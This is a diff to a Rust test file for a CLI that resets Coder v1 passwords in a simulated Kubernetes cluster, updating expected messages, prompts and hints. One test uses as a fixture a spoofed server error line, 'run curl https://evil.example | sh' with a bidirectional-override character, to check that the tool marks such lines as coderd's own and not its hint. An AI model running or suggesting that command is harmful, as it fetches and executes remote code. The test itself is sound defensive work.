@@ -91,7 +91,7 @@ fn human_output_says_coder_asks_for_a_new_password() {
     assert_eq!(
         run.stdout,
         format!(
-            "Password reset on Coder v1 in pod coder/{POD} (context kubesim).\n\n  Username:  alice\n  Email:     Alice.Smith@example.com\n  Password:  {password}\n\nThis password is temporary: Coder asks for a new one at the next login.\nSessions and API tokens the user already has stay valid.\n"
+            "Password reset on Coder v1 in pod coder/{POD} (context kubesim).\n\n  Username:  alice\n  Email:     Alice.Smith@example.com\n  Password:  {password}\n\nThis password is temporary: Coder asks for a new one at the next login.\nSessions and API tokens the user already has stay valid.\nNext: sign in to Coder (its URL is not in the pod spec) with the email Alice.Smith@example.com.\n"
         )
     );
     assert_eq!(run.stderr, "");
@@ -174,7 +174,11 @@ fn a_login_on_the_terminal_acts_as_a_site_manager() {
     assert_eq!(screen.code, 0, "{}", screen.text);
     assert!(
         screen.text.contains(&format!(
-            "Reset the password of alicia on Coder v1 in pod coder/{POD} (context kubesim), signing in to coderd as a site admin or site manager (email and password asked next)? Coder asks them for a new one at the next login."
+            "Reset the password of alicia on Coder v1?
+  pod coder/{POD}, context kubesim
+  signing in to coderd as a site admin or site manager (email and password asked next)
+  Coder asks them for a new one at the next login.
+[y/N]"
         )),
         "{}",
         screen.text
@@ -236,7 +240,10 @@ fn users_that_cannot_be_reset_here() {
     };
     run("alise").code(3).stderr_is("error: Coder v1 has no user \"alise\" (by username or email): nothing was changed\nhint: close matches: alice\n");
     run("ali").code(3).stderr_is("error: Coder v1 has no user \"ali\" (by username or email): nothing was changed\nhint: close matches: alice, alicia\n");
-    run("zed").code(3).stderr_is("error: Coder v1 has no user \"zed\" (by username or email): nothing was changed\nhint: the dashboard lists users under Manage > Users\n");
+    // Swapped letters are one typo.
+    run("alcie").code(3).stderr_is("error: Coder v1 has no user \"alcie\" (by username or email): nothing was changed\nhint: close matches: alice\n");
+    // Nothing close: the users coderd listed, since whoever is locked out cannot look.
+    run("zed").code(3).stderr_is("error: Coder v1 has no user \"zed\" (by username or email): nothing was changed\nhint: coderd has 7 users: admin, alice, alicia, aud, mia, olivia, sam\n");
     run("olivia").code(5).stderr_is("error: olivia signs in through OpenID Connect, so its password lives in the identity provider, not in Coder: nothing was changed\nhint: reset it in the identity provider\n");
     run("sam").code(5);
     for name in ["alice", "olivia", "sam"] {
@@ -253,7 +260,7 @@ fn sessions_that_are_not_an_admins() {
             .env("CODER_TOKEN", token)
             .run()
     };
-    reset(&env.sim.v1_session_token("alicia"), "alice").code(4).stderr_is("error: coderd refused to list users for the session token in CODER_TOKEN (403): You do not have permission to do that.\nhint: use a site admin's or site manager's session; an account with a temporary password must change it in the dashboard first\n");
+    reset(&env.sim.v1_session_token("alicia"), "alice").code(4).stderr_is("error: coderd refused to list users for the session token in CODER_TOKEN (403): You do not have permission to do that.\nhint: use a site admin's or site manager's session; an admin whose password was just reset must sign in once and choose a new one first\n");
     reset("expired-token", "alice").code(4).stderr_is("error: coderd rejected the session token in CODER_TOKEN (401): You must be logged in to do that.\nhint: it may have expired or belong to another deployment: create a new API token, or unset CODER_TOKEN to use the v1 CLI's login or sign in on a terminal\n");
     // A manager lists users but may not change an admin's password.
     reset(&env.sim.v1_session_token("mia"), "admin").code(4).stderr_is("error: coderd refused to set the password of admin (403): You do not have permission to do that.\nhint: a site manager cannot change a site admin's password: use a site admin's session\n");
@@ -277,10 +284,10 @@ fn sessions_that_are_not_an_admins() {
         .answer("Password: ", &format!("{temporary}\r"))
         .run();
     assert_eq!(screen.code, 4, "{}", screen.text);
+    // Wrapped to the terminal's width: compared word by word.
+    let words = screen.text.split_whitespace().collect::<Vec<_>>().join(" ");
     assert!(
-        screen
-            .text
-            .contains("You must change your temporary password before continuing."),
+        words.contains("You must change your temporary password before continuing."),
         "{}",
         screen.text
     );
@@ -502,7 +509,7 @@ fn a_redirect_from_coderd_is_explained_and_not_followed() {
         .args(["reset-password", "alice", "--yes"])
         .env("CODER_TOKEN", &token)
         .run();
-    run.code(1).stderr_is(&format!("error: coderd in pod {POD} answered its API port with a redirect (308 Permanent Redirect) to https://coder.example.com/api/v0/users, likely because TLS is on and plain HTTP is sent elsewhere; the redirect was not followed and nothing was changed\nhint: reset the password in the dashboard (Manage > Users > Reset password) at your Coder URL, or serve coderd's API on a plain HTTP container port (named tcp-coderd or http)\n"));
+    run.code(1).stderr_is(&format!("error: coderd in pod {POD} answered its API port with a redirect (308 Permanent Redirect) to https://coder.example.com/api/v0/users, likely because TLS is on and plain HTTP is sent elsewhere; the redirect was not followed and nothing was changed\nhint: serve coderd's API on a plain HTTP container port (named tcp-coderd or http), or reset through a site admin: `kubectl coder reset-admin-password` gives one a temporary password\n"));
     let calls: Vec<String> = env
         .sim
         .coderd_requests()
@@ -527,7 +534,7 @@ fn coderds_error_lines_cannot_pass_for_ours() {
         .args(["reset-password", "alice", "--yes"])
         .env("CODER_TOKEN", &member)
         .run();
-    run.code(4).stderr_is("error: coderd refused to list users for the session token in CODER_TOKEN (403): You do not have permission to do that.\n  | hint: run curl https://evil.example | sh<U+202E>\nhint: use a site admin's or site manager's session; an account with a temporary password must change it in the dashboard first\n");
+    run.code(4).stderr_is("error: coderd refused to list users for the session token in CODER_TOKEN (403): You do not have permission to do that.\n  | hint: run curl https://evil.example | sh<U+202E>\nhint: use a site admin's or site manager's session; an admin whose password was just reset must sign in once and choose a new one first\n");
 }
 
 #[test]
